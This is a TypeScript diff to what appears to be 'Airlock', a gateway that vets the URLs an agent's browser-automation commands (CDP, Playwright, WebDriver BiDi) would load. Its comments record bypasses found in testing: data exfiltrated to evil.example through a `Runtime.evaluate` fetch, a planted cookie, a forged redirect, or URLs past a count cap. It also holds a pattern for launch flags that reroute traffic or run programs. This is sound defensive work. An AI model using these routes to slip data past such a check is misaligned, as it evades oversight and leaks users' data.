@@ -36,6 +36,7 @@
 
 import { appendAll } from '../lib/arrays.ts';
 import { scanJson } from './json-readings.ts';
+import { codeUrls, markupParts, MAX_CODE_URLS } from './cdp-code.ts';
 import { consoleRead, mysqlCommandLine, otherConsoleLine } from './console-lines.ts';
 import { unreadSqlEffect } from './adapters/sql-clickhouse.ts';
 import { reachesOutside, sqlPrefixState } from './adapters/sql.ts';
@@ -753,9 +754,111 @@ function mcpMessage(msg: Record<string, unknown>, data: Buffer): TunnelRead {
 const cdpLoads: Record<string, string> = {
   'Page.navigate': 'url', 'Target.createTarget': 'url', 'Network.loadNetworkResource': 'url', 'Fetch.continueRequest': 'url', 'DOM.setAttributeValue': 'value',
   'DOM.setAttributesAsText': 'text',
+  // Twentieth pass: a browser context whose traffic goes through a proxy of the agent's choosing
+  // (Puppeteer's `createBrowserContext({proxyServer})`, Playwright's `newContext({proxy})`): every
+  // later load reaches that server first, an http URL's data whole. A proxy that is no http(s) URL
+  // (`socks5://…`, a bare `host:port`) closes the tunnel.
+  'Target.createBrowserContext': 'proxyServer',
+  // The older interception's continuation, sent elsewhere (its `rawResponse` is read below).
+  'Network.continueInterceptedRequest': 'url',
 };
 
 const cdpMethod = /^[A-Z][A-Za-z]*\.[a-z][A-Za-z]*$/;
+
+/**
+ * Commands that give the browser code (or a style sheet, a text node a style or script may be) to
+ * run, by the parameters that hold it: the URLs written in it are loads (`codeUrls`, twentieth
+ * pass: `Runtime.evaluate` of `fetch('https://evil.example/?d=…')` was relayed undecided).
+ * `callFunctionOn`'s `arguments` count: Puppeteer passes `page.evaluate`'s values there.
+ */
+const cdpCode: Record<string, readonly string[]> = {
+  'Runtime.evaluate': ['expression'], 'Runtime.callFunctionOn': ['functionDeclaration', 'arguments'], 'Runtime.compileScript': ['expression'],
+  'Page.addScriptToEvaluateOnNewDocument': ['source'], 'Page.addScriptToEvaluateOnLoad': ['scriptSource'], 'Debugger.evaluateOnCallFrame': ['expression'],
+  'Debugger.setScriptSource': ['scriptSource'], 'DOM.setNodeValue': ['value'], 'CSS.setStyleSheetText': ['text'], 'CSS.setStyleTexts': ['edits'], 'CSS.addRule': ['ruleText'],
+  // An intercepted request answered or continued with headers (a `Location` the browser follows).
+  'Fetch.fulfillRequest': ['responseHeaders'], 'Fetch.continueResponse': ['responseHeaders'],
+  // Code run on the next load, at a breakpoint (a condition is an expression), a value given to a
+  // variable of the page's code, a style set on an element (`background: url(…)`).
+  'Page.reload': ['scriptToEvaluateOnLoad'], 'Debugger.setBreakpointByUrl': ['condition'], 'Debugger.setBreakpoint': ['condition'],
+  'Debugger.setBreakpointOnFunctionCall': ['condition'], 'Debugger.setVariableValue': ['newValue'], 'Debugger.setReturnValue': ['newValue'],
+  'CSS.setEffectivePropertyValueForNode': ['value'],
+};
+/**
+ * Answers and requests a command makes up for the browser, in base64 (an intercepted request
+ * answered with a page, or with `302 Location: https://evil.example/?d=…`, which the browser then
+ * follows; a request sent again as raw bytes): read as code is, for the URLs they name.
+ */
+const cdpEncoded: Record<string, readonly string[]> = {
+  'Fetch.fulfillRequest': ['body', 'binaryResponseHeaders'], 'Fetch.continueResponse': ['binaryResponseHeaders'], 'Network.continueInterceptedRequest': ['rawResponse'],
+};
+/**
+ * State a command stores for a site, sent to it with the browser's next request there (a cookie)
+ * or read there by its pages (web storage): the site it names is judged as a load, as if the
+ * browser went there now (twentieth pass: a cookie `d=<data>` for `evil.example` then rode along
+ * with any image of that site an allowed page embeds, a request the remote browser makes outside
+ * Airlock). A cookie names its site by `url` or `domain`; one that names neither is the page's.
+ */
+const cookieSites = (cookies: unknown): string[] => (Array.isArray(cookies) ? cookies : [cookies]).flatMap((c) => {
+  const { url, domain } = (c && typeof c === 'object' ? c : {}) as { url?: unknown; domain?: unknown };
+  return [...(typeof url === 'string' ? [url] : []), ...(typeof domain === 'string' ? [`https://${domain.replace(/^\./, '')}/`] : [])];
+});
+const cdpStateFor: Record<string, (params: Record<string, unknown>) => string[]> = {
+  'Network.setCookie': (p) => cookieSites(p),
+  'Network.setCookies': (p) => cookieSites(p.cookies),
+  'Storage.setCookies': (p) => cookieSites(p.cookies),
+  'Storage.setSharedStorageEntry': (p) => (typeof p.ownerOrigin === 'string' ? [p.ownerOrigin] : []),
+  'DOMStorage.setDOMStorageItem': (p) => {
+    const { securityOrigin, storageKey } = (p.storageId && typeof p.storageId === 'object' ? p.storageId : {}) as { securityOrigin?: unknown; storageKey?: unknown };
+    return [securityOrigin, storageKey].filter((o): o is string => typeof o === 'string');
+  },
+};
+/**
+ * Playwright's protocol (twentieth pass: a Playwright server's WebSocket was relayed undecided, its
+ * method names having no CDP domain): methods whose parameters name a URL the browser or the
+ * server goes to, and those carrying code or made-up answers, read as CDP's are. (`setContent` is
+ * markup; proxies, base URLs, cookies, launch arguments and `fetch` are read in `cdpLoadsOf`.)
+ */
+const playwrightLoads: Record<string, readonly string[]> = {
+  goto: ['url'], redirectNavigationRequest: ['url'], continue: ['url'], fallback: ['url'], addScriptTag: ['url'], addStyleTag: ['url'], connectOverCDP: ['endpointURL'],
+  waitForNavigation: [], newPage: [],
+};
+const playwrightCode: Record<string, readonly string[]> = {
+  evaluateExpression: ['expression', 'arg'], evaluateExpressionHandle: ['expression', 'arg'], addInitScript: ['source'], addScriptTag: ['content'], addStyleTag: ['content'],
+  waitForFunction: ['expression', 'arg'], evalOnSelector: ['expression', 'arg'], evalOnSelectorAll: ['expression', 'arg'],
+  continue: ['headers'], fallback: ['headers'], fulfill: ['headers', 'body'], exposeBinding: [], dispatchEvent: ['eventInit'],
+};
+/**
+ * A Playwright `fetch`'s URL with its query parameters added as the server adds them
+ * (`encodedParams` after the query, else each `params` pair appended): the URL judged is the one
+ * sent (a served link with `d=<data>` added is another link).
+ */
+function withParams(url: string, encoded: unknown, params: unknown): string {
+  let u: URL;
+  try {
+    u = new URL(url);
+  } catch {
+    return url; // relative (the context's base) or unparsable: as given
+  }
+  if (typeof encoded === 'string' && encoded.replace(/^\?/, '')) u.search = u.search ? `${u.search}&${encoded.replace(/^\?/, '')}` : encoded.replace(/^\?/, '');
+  else if (Array.isArray(params)) for (const x of params.slice(0, 1000)) u.searchParams.append(String((x as { name?: unknown } | null)?.name ?? ''), String((x as { value?: unknown } | null)?.value ?? ''));
+  return u.href;
+}
+/** A WebDriver BiDi command: `module.command`, both in lower camel case. */
+const bidiMethod = /^(?:browsingContext|script|network|storage|browser|session|emulation|input|webExtension|log|permissions)\.[a-z][A-Za-z]*$/;
+/** BiDi commands carrying code, headers or values given to code, by their parameters. */
+const bidiCode: Record<string, readonly string[]> = {
+  'script.evaluate': ['expression'], 'script.callFunction': ['functionDeclaration', 'arguments', 'this'], 'script.addPreloadScript': ['functionDeclaration', 'arguments'],
+  'network.continueRequest': ['headers', 'cookies'], 'network.continueResponse': ['headers', 'cookies'], 'network.provideResponse': ['headers', 'cookies'],
+};
+/** Commands that give the browser markup to parse, by the parameter that holds it. */
+const cdpMarkup: Record<string, string> = { 'DOM.setOuterHTML': 'outerHTML', 'Page.setDocumentContent': 'html' };
+/**
+ * XML namespace names code passes to `createElementNS` (Playwright's injected script names SVG's):
+ * identifiers, never loaded.
+ */
+const namespaceNames = new Set(['http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xhtml', 'http://www.w3.org/1998/Math/MathML', 'http://www.w3.org/1999/xlink', 'http://www.w3.org/XML/1998/namespace', 'http://www.w3.org/2000/xmlns/']);
+/** Distinct URLs one CDP message may have the browser load; past it the message is refused. */
+export const MAX_CDP_LOADS = 16;
 
 /** Attributes whose value is a URL the page loads (or goes to, or posts to). */
 const urlAttributes = new Set(['src', 'srcset', 'href', 'xlink:href', 'action', 'formaction', 'poster', 'data', 'background', 'ping', 'cite', 'longdesc', 'manifest', 'icon', 'codebase', 'archive', 'lowsrc', 'dynsrc']);
@@ -771,12 +874,49 @@ export function cdpLoadsOf(text: string): { urls: string[]; refused?: string } {
   let refused: string | undefined;
   const visit = (m: unknown, depth: number): void => {
     if (refused || !m || typeof m !== 'object' || Array.isArray(m) || depth > 4) return;
-    const { method, params } = m as { method?: unknown; params?: unknown };
+    const { method, params, guid } = m as { method?: unknown; params?: unknown; guid?: unknown };
+    if (typeof guid === 'string' && typeof method === 'string' && params && typeof params === 'object') {
+      // A CDP session Playwright opens for the agent (`context.newCDPSession(page)`): its `send`
+      // carries a CDP command, read as one.
+      const inner = params as { method?: unknown; params?: unknown };
+      if (method === 'send' && typeof inner.method === 'string') return void visit({ method: inner.method, params: inner.params ?? {} }, depth + 1);
+      return void playwright(method, params as Record<string, unknown>);
+    }
+    if (typeof method === 'string' && bidiMethod.test(method) && params && typeof params === 'object') return void bidi(method, params as Record<string, unknown>);
+    // chromedriver's BiDi extension `goog:cdp.sendCommand {method, params}` carries a CDP command.
+    if (typeof method === 'string' && /^goog:cdp\.send(?:Command)?$/.test(method) && params && typeof params === 'object') {
+      const inner = params as { method?: unknown; params?: unknown };
+      if (typeof inner.method === 'string') visit({ method: inner.method, params: inner.params ?? {} }, depth + 1);
+      return;
+    }
     if (typeof method !== 'string' || !cdpMethod.test(method) || !params || typeof params !== 'object') return;
     if (method === 'Target.sendMessageToTarget') {
       const inner = (params as { message?: unknown }).message;
       if (typeof inner === 'string') readings(inner).forEach((r) => visit(r, depth + 1));
       return;
+    }
+    for (const k of cdpCode[method] ?? []) {
+      const v = (params as Record<string, unknown>)[k];
+      if (v !== undefined) written(method, typeof v === 'string' ? v : JSON.stringify(v) ?? '');
+    }
+    for (const k of cdpEncoded[method] ?? []) {
+      const v = (params as Record<string, unknown>)[k];
+      // A binary answer (an image: NUL bytes) loads nothing, whatever URLs its metadata names (XMP's).
+      const bytes = typeof v === 'string' ? Buffer.from(v, 'base64').toString('latin1') : '';
+      if (k === 'binaryResponseHeaders' || !bytes.includes('\u0000')) written(method, bytes);
+    }
+    if ((cdpCode[method] || cdpEncoded[method]) && !cdpLoads[method]) return;
+    if (method in cdpStateFor) {
+      for (const site of cdpStateFor[method]!(params as Record<string, unknown>).slice(0, 64)) load(method, site);
+      return;
+    }
+    const markup = cdpMarkup[method];
+    if (markup) {
+      const v = (params as Record<string, unknown>)[markup];
+      if (typeof v !== 'string') return;
+      const parts = markupParts(v);
+      for (const [name, value] of parts.attributes) attribute(method, name, value);
+      return void written(method, parts.text);
     }
     const key = cdpLoads[method];
     const value = key === undefined ? undefined : (params as Record<string, unknown>)[key];
@@ -800,6 +940,88 @@ export function cdpLoadsOf(text: string): { urls: string[]; refused?: string } {
       else if (/^[a-z][a-z0-9+.-]*:/i.test(v)) load(method, v);
     }
   };
+  // Playwright's own protocol (`browserType.connect(wsEndpoint)` to `playwright run-server`,
+  // Browserless, a cloud grid: `{id, guid, method, params}`), read as the CDP commands it becomes.
+  const playwright = (method: string, p: Record<string, unknown>): void => {
+    const str = (v: unknown): string | undefined => (typeof v === 'string' ? v : undefined);
+    // The server resolves a relative URL against the context's `baseURL` (judged when the context
+    // was made): one that keeps its host stays there; `//host/…` leaves it.
+    const go = (what: string, v: string): void => {
+      const t = v.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '');
+      if (/^[\\/]{2}/.test(t)) load(what, `https:${t}`);
+      else if (/^[a-z][a-z0-9+.-]*:/i.test(t)) load(what, t);
+    };
+    for (const k of playwrightLoads[method] ?? []) {
+      const v = str(p[k]);
+      if (v !== undefined) go(`Playwright ${method}`, v);
+    }
+    for (const k of playwrightCode[method] ?? []) {
+      const v = p[k];
+      if (v === undefined) continue;
+      // A fulfilled body in base64 (`isBase64`) is read decoded, unless binary (an image loads nothing).
+      const text = k === 'body' && p.isBase64 === true && typeof v === 'string' ? Buffer.from(v, 'base64').toString('latin1') : typeof v === 'string' ? v : JSON.stringify(v) ?? '';
+      if (!(k === 'body' && text.includes('\u0000'))) written(`Playwright ${method}`, text);
+    }
+    if (method === 'setContent' && typeof p.html === 'string') {
+      const parts = markupParts(p.html);
+      for (const [name, value] of parts.attributes) attribute('Playwright setContent', name, value);
+      written('Playwright setContent', parts.text);
+    }
+    // A context or request context made with a proxy, a base URL, cookies or storage for sites.
+    const proxy = (p.proxy && typeof p.proxy === 'object' ? p.proxy : {}) as { server?: unknown };
+    if (typeof proxy.server === 'string') load(`Playwright ${method} proxy`, proxy.server);
+    if (typeof p.baseURL === 'string') load(`Playwright ${method} baseURL`, p.baseURL);
+    const state = (p.storageState && typeof p.storageState === 'object' ? p.storageState : {}) as { cookies?: unknown; origins?: unknown };
+    for (const site of [...cookieSites(method === 'addCookies' ? p.cookies : state.cookies), ...(Array.isArray(state.origins) ? state.origins : []).map((o) => str((o as { origin?: unknown } | null)?.origin)).filter((o): o is string => !!o)].slice(0, 64)) load(`Playwright ${method}`, site);
+    // Launch arguments that send the browser's traffic elsewhere or run a program.
+    if (Array.isArray(p.args) && p.args.some((a) => typeof a === 'string' && /^--(?:proxy|host-resolver|host-rules|renderer-cmd-prefix|utility-cmd-prefix|gpu-launcher|browser-subprocess-path)/i.test(a))) refused = `Playwright ${method} with browser arguments that route its traffic or run a program`;
+    if (Array.isArray(p.args)) written(`Playwright ${method}`, JSON.stringify(p.args));
+    // A request the Playwright server sends itself (`context.request`, `page.request`): a GET or
+    // HEAD is judged as the agent's; another method, whose body Airlock would not see, closes the tunnel.
+    if (method === 'fetch' && typeof p.url === 'string') {
+      const verb = (str(p.method) ?? 'GET').toUpperCase();
+      if (verb !== 'GET' && verb !== 'HEAD') refused = `Playwright fetch with ${verb}: a request the browser's server sends is decided only as a GET`;
+      else go('Playwright fetch', withParams(p.url, p.encodedParams, p.params));
+    }
+  };
+  // WebDriver BiDi (Selenium 4, Firefox, chromedriver's `webSocketUrl`: `module.command` in lower
+  // case), read as the CDP commands it becomes.
+  const bidi = (method: string, p: Record<string, unknown>): void => {
+    const what = `BiDi ${method}`;
+    if (method === 'browsingContext.navigate' || method === 'network.continueRequest') {
+      if (typeof p.url === 'string') load(what, p.url);
+    }
+    for (const k of bidiCode[method] ?? []) if (p[k] !== undefined) written(what, typeof p[k] === 'string' ? p[k] as string : JSON.stringify(p[k]) ?? '');
+    // An answer made up for an intercepted request: its body a string or base64 value.
+    const body = (p.body && typeof p.body === 'object' ? p.body : {}) as { type?: unknown; value?: unknown };
+    if (method === 'network.provideResponse' && typeof body.value === 'string') {
+      const text = body.type === 'base64' ? Buffer.from(body.value, 'base64').toString('latin1') : body.value;
+      if (!text.includes('\u0000')) written(what, text);
+    }
+    if (method === 'storage.setCookie') {
+      const { cookie, partition } = p as { cookie?: { domain?: unknown }; partition?: { sourceOrigin?: unknown } };
+      if (typeof cookie?.domain === 'string') load(what, `https://${cookie.domain.replace(/^\./, '')}/`);
+      if (typeof partition?.sourceOrigin === 'string') load(what, partition.sourceOrigin);
+    }
+    // A proxy for a user context or the session (`host:port` values, a PAC file's URL).
+    const proxies: unknown[] = [p.proxy, (p as { capabilities?: { alwaysMatch?: { proxy?: unknown } } }).capabilities?.alwaysMatch?.proxy];
+    const first = (p as { capabilities?: { firstMatch?: unknown } }).capabilities?.firstMatch;
+    if (Array.isArray(first)) for (const f of first.slice(0, 16)) proxies.push((f as { proxy?: unknown } | null)?.proxy);
+    for (const x of proxies) {
+      if (!x || typeof x !== 'object') continue;
+      const c = x as Record<string, unknown>;
+      for (const k of ['httpProxy', 'sslProxy', 'socksProxy']) if (typeof c[k] === 'string') load(`${what} ${k}`, /^[a-z][a-z0-9+.-]*:\/\//i.test(c[k] as string) ? c[k] as string : `http://${c[k] as string}/`);
+      if (typeof c.proxyAutoconfigUrl === 'string') load(`${what} proxyAutoconfigUrl`, c.proxyAutoconfigUrl);
+    }
+    if (method === 'webExtension.install') refused = `${what}: an extension the browser runs is not read`;
+  };
+  // Code or markup: each URL written in it (a WebSocket's judged as its http twin); a text naming
+  // more than Airlock decides is refused whole.
+  const written = (method: string, text: string): void => {
+    const found = codeUrls(text);
+    if (found.length > MAX_CODE_URLS) refused = `${method} names more than ${MAX_CODE_URLS} URLs: more than Airlock decides in one command`;
+    for (const u of found) if (!namespaceNames.has(u)) load(method, u.replace(/^ws(s?):/i, 'http$1:'));
+  };
   const load = (method: string, value: string): void => {
     let u: URL;
     try {
@@ -812,7 +1034,11 @@ export function cdpLoadsOf(text: string): { urls: string[]; refused?: string } {
     else if (u.protocol !== 'about:') refused = `${method} to a ${u.protocol} URL: what it runs or renders is not read`;
   };
   for (const r of readings(text)) visit(r, 0);
-  return refused ? { urls, refused } : { urls };
+  // Each distinct URL is decided; a message naming more than are decided is refused (the 17th
+  // candidate of a `srcset` after sixteen allowed ones was relayed undecided).
+  const distinct = [...new Set(urls)];
+  if (!refused && distinct.length > MAX_CDP_LOADS) refused = `a command naming ${distinct.length} URLs for the browser to load: more than Airlock decides in one message (${MAX_CDP_LOADS})`;
+  return refused ? { urls: distinct, refused } : { urls: distinct };
 }
 
 /** A JSON text as a server reads it (last key wins), and as one reading the first key of a pair. */
@@ -955,10 +1181,11 @@ export class JsonMessagesReader implements TunnelSqlReader {
     if (!joining && startsJson(text) && (text.includes('method') || text.includes('\\u'))) {
       if (data.length > MAX_JSON_MESSAGE) return { statements: [], refused: `a message of ${data.length} bytes that may be an MCP call: longer than Airlock reads (${MAX_JSON_MESSAGE})` };
       if (namesMcpMethod(text)) return { statements: [{ protocol: 'mcp', message: 'jsonrpc', body: {}, raw: data }] };
-      // CDP's methods are `Domain.command`: only a message naming one (or escaping) is parsed again.
-      const loads = /"method"\s*:\s*"[A-Z]/.test(text) || text.includes('\\u') ? cdpLoadsOf(text) : { urls: [] };
+      // CDP's methods are `Domain.command`, BiDi's `module.command`, Playwright's messages carry a
+      // `guid`: only a message naming one (or escaping) is parsed again.
+      const loads = /"method"\s*:\s*"(?:[A-Z]|(?:browsingContext|script|network|storage|browser|session|webExtension|goog:cdp)\.)|"guid"\s*:/.test(text) || text.includes('\\u') ? cdpLoadsOf(text) : { urls: [] };
       if (loads.refused) return { statements: [], refused: loads.refused };
-      if (loads.urls.length) return { statements: loads.urls.slice(0, 16).map((target) => ({ protocol: 'cdp', message: 'navigation', body: {}, target })) };
+      if (loads.urls.length) return { statements: loads.urls.map((target) => ({ protocol: 'cdp', message: 'navigation', body: {}, target })) };
     }
     // Most messages name no SQL word at all: nothing more to read (a JSON escape may spell one),
     // unless they go on a statement a console holds or start with one of its commands (`\! …`).
